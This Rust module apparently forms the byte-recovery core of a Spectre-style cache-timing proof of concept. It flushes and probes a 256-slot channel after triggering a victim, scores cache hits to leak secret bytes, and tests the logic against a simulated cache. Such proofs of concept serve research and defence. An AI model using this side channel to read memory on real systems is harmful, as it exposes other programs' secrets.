//! Recovering secret bytes from the cache channel.
//!
//! One *trial* resets and flushes the channel, runs the victim once and
//! probes all 256 slots. A *series* accumulates up to
//! [`RecoverConfig::trials`] trials into a [`Histogram`] and stops early
//! once the leader is clear. A *round* is one series plus the caller-level
//! decision about whether the result is usable.

use log::{ debug, trace };
use thiserror::Error;

use crate::channel::*;
use crate::timing::TimingPrimitives;
use crate::util::printable;
use crate::victim::Victim;

/// Number of cache hits observed for each byte value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Histogram(pub [u32; NUM_SLOTS]);
impl Histogram {
    pub fn new() -> Self { Self([0; NUM_SLOTS]) }

    /// Build a histogram from `(value, hits)` pairs. Unlisted values have
    /// zero hits.
    pub fn from_counts(counts: &[(u8, u32)]) -> Self {
        let mut res = Self::new();
        for (value, hits) in counts {
            res.0[*value as usize] = *hits;
        }
        res
    }

    pub fn record(&mut self, value: usize) { self.0[value] += 1; }
    pub fn get(&self, value: u8) -> u32 { self.0[value as usize] }
    pub fn clear(&mut self) { self.0 = [0; NUM_SLOTS]; }

    /// Find the two highest counts. On ties, the lowest byte value wins.
    pub fn top_two(&self) -> ByteScore {
        let hits = &self.0;
        let mut j = 0;
        let mut k: Option<usize> = None;
        for i in 1..NUM_SLOTS {
            if hits[i] > hits[j] {
                k = Some(j);
                j = i;
            } else if k.map_or(true, |k| hits[i] > hits[k]) {
                k = Some(i);
            }
        }
        let k = k.unwrap_or(1);
        ByteScore {
            value: j as u8,
            hits: hits[j],
            runner_up: k as u8,
            runner_up_hits: hits[k],
        }
    }
}
impl Default for Histogram {
    fn default() -> Self { Self::new() }
}

/// The leader and runner-up of a [`Histogram`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct ByteScore {
    pub value: u8,
    pub hits: u32,
    pub runner_up: u8,
    pub runner_up_hits: u32,
}
impl ByteScore {
    /// Returns true when a series can stop early: the leader has at least
    /// twice the runner-up's hits plus five, or exactly two hits against
    /// none.
    pub fn is_decided(&self) -> bool {
        (self.hits >= 2 * self.runner_up_hits + 5)
            || (self.hits == 2 && self.runner_up_hits == 0)
    }

    /// What the caller should do with the result of a series.
    pub fn classify(&self) -> Classification {
        match self.hits {
            0 => Classification::NoSignal,
            1 => Classification::Inconclusive,
            _ if self.hits >= 2 * self.runner_up_hits => {
                Classification::Accepted(Verdict::Success)
            },
            _ => Classification::Accepted(Verdict::Unclear),
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Classification {
    /// Nothing hit at all; rerun the series.
    NoSignal,
    /// A single hit; rerun the series.
    Inconclusive,
    Accepted(Verdict),
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// The leader has at least twice the runner-up's hits.
    Success,
    /// Accepted anyway, but the runner-up was close.
    Unclear,
}
impl std::fmt::Display for Verdict {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Verdict::Success => write!(f, "success"),
            Verdict::Unclear => write!(f, "unclear"),
        }
    }
}

/// A series which has to be rerun because the leader only had one hit.
#[derive(Clone, Copy, Debug)]
pub struct Inconclusive {
    pub addr: usize,
    pub round: usize,
    pub score: ByteScore,
}
impl std::fmt::Display for Inconclusive {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let s = &self.score;
        write!(f, "reading {:#x}... inconclusive ['{}' 0x{:02x}, '{}' 0x{:02x}] [{:#x} {:#x}], retrying",
            self.addr,
            printable(s.value), s.value,
            printable(s.runner_up), s.runner_up,
            s.hits, s.runner_up_hits,
        )
    }
}

/// An accepted byte.
#[derive(Clone, Copy, Debug)]
pub struct Recovered {
    pub addr: usize,
    pub score: ByteScore,
    pub verdict: Verdict,
    /// Number of series it took, including the accepted one.
    pub rounds: usize,
}
impl Recovered {
    pub fn value(&self) -> u8 { self.score.value }
}
impl std::fmt::Display for Recovered {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "reading {:#x} {}: 0x{:02X}='{}'",
            self.addr, self.verdict, self.value(), printable(self.value()))
    }
}

#[derive(Debug, Error)]
pub enum RecoverError {
    #[error("no usable signal reading {addr:#x} after {rounds} rounds (best 0x{best:02x} with {hits} hits)")]
    RetriesExhausted { addr: usize, rounds: usize, best: u8, hits: u32 },
}

/// Configuration passed to [`Recoverer::new`].
#[derive(Clone, Copy, Debug)]
pub struct RecoverConfig {
    /// Loads which take at most this many cycles count as cache hits.
    pub threshold: u64,
    /// Maximum number of trials in one series.
    pub trials: usize,
    /// Maximum number of series for a single byte before giving up.
    pub max_rounds: usize,
}
impl RecoverConfig {
    pub const DEFAULT_THRESHOLD: u64 = 250;
    pub const DEFAULT_TRIALS: usize = 50;
    pub const DEFAULT_MAX_ROUNDS: usize = 1000;

    pub fn threshold(mut self, threshold: u64) -> Self {
        self.threshold = threshold; self
    }
    pub fn trials(mut self, trials: usize) -> Self {
        self.trials = trials; self
    }
    pub fn max_rounds(mut self, max_rounds: usize) -> Self {
        self.max_rounds = max_rounds; self
    }
}
impl Default for RecoverConfig {
    fn default() -> Self {
        Self {
            threshold: Self::DEFAULT_THRESHOLD,
            trials: Self::DEFAULT_TRIALS,
            max_rounds: Self::DEFAULT_MAX_ROUNDS,
        }
    }
}

/// Drives the victim and the cache channel to recover bytes.
pub struct Recoverer<T: TimingPrimitives, V: Victim> {
    timing: T,
    channel: Channel,
    victim: V,
    config: RecoverConfig,
    junk: i32,
}
impl <T: TimingPrimitives, V: Victim> Recoverer<T, V> {
    pub fn new(timing: T, channel: Channel, victim: V, config: RecoverConfig)
        -> Self
    {
        Self { timing, channel, victim, config, junk: 0 }
    }

    pub fn config(&self) -> &RecoverConfig { &self.config }
    pub fn channel(&self) -> &Channel { &self.channel }
    pub fn victim(&self) -> &V { &self.victim }
    pub fn timing(&self) -> &T { &self.timing }

    /// XOR of every value returned by the victim.
    pub fn junk(&self) -> i32 { self.junk }

    /// Run a single trial against `addr` and add its cache hits to `hits`.
    pub fn trial(&mut self, addr: *const u8, hits: &mut Histogram) {
        // Reset
        self.channel.reset(&self.timing);
        self.victim.reset_target();
        self.timing.fence();

        // Flush the channel and the training pointer
        self.channel.flush(&self.timing);
        unsafe { self.timing.flush(self.victim.training_ptr()); }
        self.timing.fence();

        // Trigger
        self.junk ^= self.victim.trigger(&self.channel, addr);
        self.timing.fence();

        // Measure, in mixed-up order
        for i in 0..NUM_SLOTS {
            let slot = mix(i);
            let elapsed = self.channel.timed_read(&self.timing, slot);
            if elapsed <= self.config.threshold {
                hits.record(slot);
            }
        }
    }

    /// Run one series of up to [`RecoverConfig::trials`] trials against
    /// `addr`, stopping early once the leader is clear.
    pub fn read_byte(&mut self, addr: *const u8) -> ByteScore {
        let mut hits = Histogram::new();
        let mut score = hits.top_two();
        for tries in 1..=self.config.trials {
            self.trial(addr, &mut hits);
            score = hits.top_two();
            if score.is_decided() {
                trace!("{:#x}: decided after {} trials", addr as usize, tries);
                break;
            }
        }
        score
    }

    /// Repeat series against `addr` until the result is usable.
    ///
    /// `on_inconclusive` is called for every series whose leader has a
    /// single hit. Series with no hits at all are only logged. Gives up
    /// after [`RecoverConfig::max_rounds`] series.
    pub fn recover_byte(&mut self, addr: *const u8,
        mut on_inconclusive: impl FnMut(&Inconclusive))
        -> Result<Recovered, RecoverError>
    {
        let mut last = Histogram::new().top_two();
        for round in 1..=self.config.max_rounds {
            let score = self.read_byte(addr);
            last = score;
            match score.classify() {
                Classification::NoSignal => {
                    debug!("{:#x}: no signal (round {})", addr as usize, round);
                },
                Classification::Inconclusive => {
                    on_inconclusive(&Inconclusive {
                        addr: addr as usize, round, score
                    });
                },
                Classification::Accepted(verdict) => {
                    return Ok(Recovered {
                        addr: addr as usize, score, verdict, rounds: round
                    });
                },
            }
        }
        Err(RecoverError::RetriesExhausted {
            addr: addr as usize,
            rounds: self.config.max_rounds,
            best: last.value,
            hits: last.hits,
        })
    }

    /// Recover every byte of `secret`, in order. `on_recovered` sees each
    /// byte as soon as it is accepted.
    pub fn recover(&mut self, secret: &[u8],
        mut on_inconclusive: impl FnMut(&Inconclusive),
        mut on_recovered: impl FnMut(&Recovered))
        -> Result<Vec<Recovered>, RecoverError>
    {
        let base = secret.as_ptr();
        (0..secret.len()).map(|off| {
            let res = self.recover_byte(base.wrapping_add(off), &mut on_inconclusive)?;
            on_recovered(&res);
            Ok(res)
        }).collect()
    }
}


#[cfg(test)]
mod test {
    use super::*;
    use std::rc::Rc;
    use crate::timing::SimulatedCache;
    use crate::victim::SimulatedVictim;

    fn simulated(cache: SimulatedCache, config: RecoverConfig)
        -> Recoverer<Rc<SimulatedCache>, SimulatedVictim>
    {
        let cache = Rc::new(cache);
        let victim = SimulatedVictim::new(cache.clone());
        Recoverer::new(cache, Channel::new(), victim, config)
    }

    #[test]
    fn clear_winner() {
        let mut h = Histogram::new();
        h.0 = [1; NUM_SLOTS];
        h.0[b'A' as usize] = 40;
        let s = h.top_two();
        assert_eq!(s.value, b'A');
        assert_eq!(s.hits, 40);
        assert_eq!(s.runner_up_hits, 1);
        assert!(s.is_decided());
        assert_eq!(s.classify(), Classification::Accepted(Verdict::Success));
    }

    #[test]
    fn close_race_is_not_decided() {
        let h = Histogram::from_counts(&[(10, 3), (20, 2)]);
        let s = h.top_two();
        assert_eq!((s.value, s.hits), (10, 3));
        assert_eq!((s.runner_up, s.runner_up_hits), (20, 2));
        assert!(!s.is_decided());
        // If the series runs out of trials here, it is still emitted
        assert_eq!(s.classify(), Classification::Accepted(Verdict::Unclear));
    }

    #[test]
    fn two_against_nothing() {
        let s = Histogram::from_counts(&[(0x41, 2)]).top_two();
        assert!(s.is_decided());
        assert_eq!(s.classify(), Classification::Accepted(Verdict::Success));

        let s = Histogram::from_counts(&[(0x41, 2), (0x42, 1)]).top_two();
        assert!(!s.is_decided());
        assert_eq!(s.classify(), Classification::Accepted(Verdict::Success));
    }

    #[test]
    fn gap_of_five() {
        let s = Histogram::from_counts(&[(1, 15), (2, 5)]).top_two();
        assert!(s.is_decided());
        let s = Histogram::from_counts(&[(1, 14), (2, 5)]).top_two();
        assert!(!s.is_decided());
    }

    #[test]
    fn ties_go_to_first_seen() {
        let s = Histogram::from_counts(&[(30, 7), (10, 7), (200, 7)]).top_two();
        assert_eq!(s.value, 10);
        assert_eq!(s.runner_up, 30);

        let s = Histogram::from_counts(&[(5, 9), (40, 3), (90, 3)]).top_two();
        assert_eq!((s.value, s.runner_up), (5, 40));

        // Leader found late, runner-up found early
        let s = Histogram::from_counts(&[(0, 4), (255, 8)]).top_two();
        assert_eq!((s.value, s.runner_up), (255, 0));
    }

    #[test]
    fn zero_hits_is_never_success() {
        let s = Histogram::new().top_two();
        assert_eq!((s.value, s.runner_up), (0, 1));
        assert!(!s.is_decided());
        assert_eq!(s.classify(), Classification::NoSignal);
    }

    #[test]
    fn single_hit_is_inconclusive() {
        let s = Histogram::from_counts(&[(0x7f, 1)]).top_two();
        assert_eq!(s.classify(), Classification::Inconclusive);
        let i = Inconclusive { addr: 0x1000, round: 1, score: s };
        assert_eq!(i.to_string(),
            "reading 0x1000... inconclusive ['?' 0x7f, '?' 0x00] [0x1 0x0], retrying");
    }

    #[test]
    fn scoring_is_deterministic() {
        let h = Histogram::from_counts(&[(3, 11), (9, 4), (77, 4), (200, 1)]);
        let first = h.top_two();
        for _ in 0..16 {
            assert_eq!(h.top_two(), first);
        }
        assert_eq!(first.is_decided(), 11 >= 2 * 4 + 5);
    }

    #[test]
    fn report_lines() {
        let score = Histogram::from_counts(&[(b'T', 9)]).top_two();
        let r = Recovered { addr: 0x55f0, score, verdict: Verdict::Success, rounds: 1 };
        assert_eq!(r.to_string(), "reading 0x55f0 success: 0x54='T'");

        let score = Histogram::from_counts(&[(0x0a, 9), (0x0b, 5)]).top_two();
        let r = Recovered { addr: 0x55f1, score, verdict: Verdict::Unclear, rounds: 3 };
        assert_eq!(r.to_string(), "reading 0x55f1 unclear: 0x0A='?'");
    }

    #[test]
    fn noiseless_recovers_secret() {
        let mut r = simulated(SimulatedCache::new(), RecoverConfig::default());
        let secret = b"TEST";
        let mut inconclusive = 0;
        let mut seen = Vec::new();
        let res = r.recover(secret, |_| inconclusive += 1,
            |b| seen.push(b.to_string())).unwrap();
        let bytes: Vec<u8> = res.iter().map(|b| b.value()).collect();
        assert_eq!(&bytes, secret);
        assert_eq!(inconclusive, 0);
        assert_eq!(seen, res.iter().map(|b| b.to_string()).collect::<Vec<_>>());
        for (off, b) in res.iter().enumerate() {
            assert_eq!(b.addr, secret.as_ptr() as usize + off);
            assert_eq!(b.verdict, Verdict::Success);
            assert_eq!(b.rounds, 1);
            // Two hits against none decides the series on the second trial
            assert_eq!((b.score.hits, b.score.runner_up_hits), (2, 0));
        }
        assert_eq!(r.victim().triggers(), 2 * secret.len());
    }

    #[test]
    fn noisy_channel_still_recovers() {
        let cache = SimulatedCache::new().with_noise(0x5eed, 0.02);
        let mut r = simulated(cache, RecoverConfig::default());
        let secret = b"The Magic Words";
        let res = r.recover(secret, |_| {}, |_| {}).unwrap();
        let bytes: Vec<u8> = res.iter().map(|b| b.value()).collect();
        assert_eq!(&bytes, secret);
        assert!(res.iter().all(|b| b.verdict == Verdict::Success));
    }

    #[test]
    fn threshold_below_hit_latency_sees_nothing() {
        let config = RecoverConfig::default()
            .threshold(SimulatedCache::DEFAULT_HIT - 1)
            .trials(5)
            .max_rounds(3);
        let mut r = simulated(SimulatedCache::new(), config);
        let secret = [b'x'];
        match r.recover_byte(secret.as_ptr(), |_| panic!("no hits expected")) {
            Err(RecoverError::RetriesExhausted { rounds, hits, .. }) => {
                assert_eq!(rounds, 3);
                assert_eq!(hits, 0);
            },
            other => panic!("unexpected {:?}", other),
        }
        assert_eq!(r.victim().triggers(), 15);
    }

    #[test]
    fn no_leak_gives_up_after_cap() {
        let cache = Rc::new(SimulatedCache::new());
        let victim = SimulatedVictim::new(cache.clone()).not_leaking();
        let config = RecoverConfig::default().max_rounds(4);
        let mut r = Recoverer::new(cache, Channel::new(), victim, config);
        let secret = b"S";
        let mut recovered = 0;
        let err = r.recover(secret, |_| {}, |_| recovered += 1).unwrap_err();
        assert_eq!(recovered, 0);
        assert!(matches!(err, RecoverError::RetriesExhausted { rounds: 4, .. }));
        assert_eq!(r.victim().triggers(), 4 * RecoverConfig::DEFAULT_TRIALS);
    }

    #[test]
    fn always_hit_channel_is_unclear() {
        // Every slot hits on every trial: nothing is ever decided, and the
        // flat histogram is accepted as unclear once the series ends.
        let cache = SimulatedCache::new().with_noise(1, 1.0);
        let config = RecoverConfig::default().trials(10);
        let mut r = simulated(cache, config);
        let secret = [0x42u8];
        let res = r.recover_byte(secret.as_ptr(), |_| {}).unwrap();
        assert_eq!(res.verdict, Verdict::Unclear);
        assert_eq!(res.score.hits, 10);
        assert_eq!(res.score.runner_up_hits, 10);
        assert_eq!(res.value(), 0);
    }

    #[test]
    fn inconclusive_rounds_are_reported() {
        // One trial per series: the secret slot gets exactly one hit
        let config = RecoverConfig::default().trials(1).max_rounds(3);
        let mut r = simulated(SimulatedCache::new(), config);
        let secret = [b'Q'];
        let mut seen = Vec::new();
        let err = r.recover_byte(secret.as_ptr(), |i| seen.push(*i)).unwrap_err();
        assert!(matches!(err, RecoverError::RetriesExhausted { best: b'Q', hits: 1, .. }));
        assert_eq!(seen.len(), 3);
        assert!(seen.iter().all(|i| i.score.value == b'Q'));
        assert_eq!(seen.iter().map(|i| i.round).collect::<Vec<_>>(), vec![1, 2, 3]);
    }
}
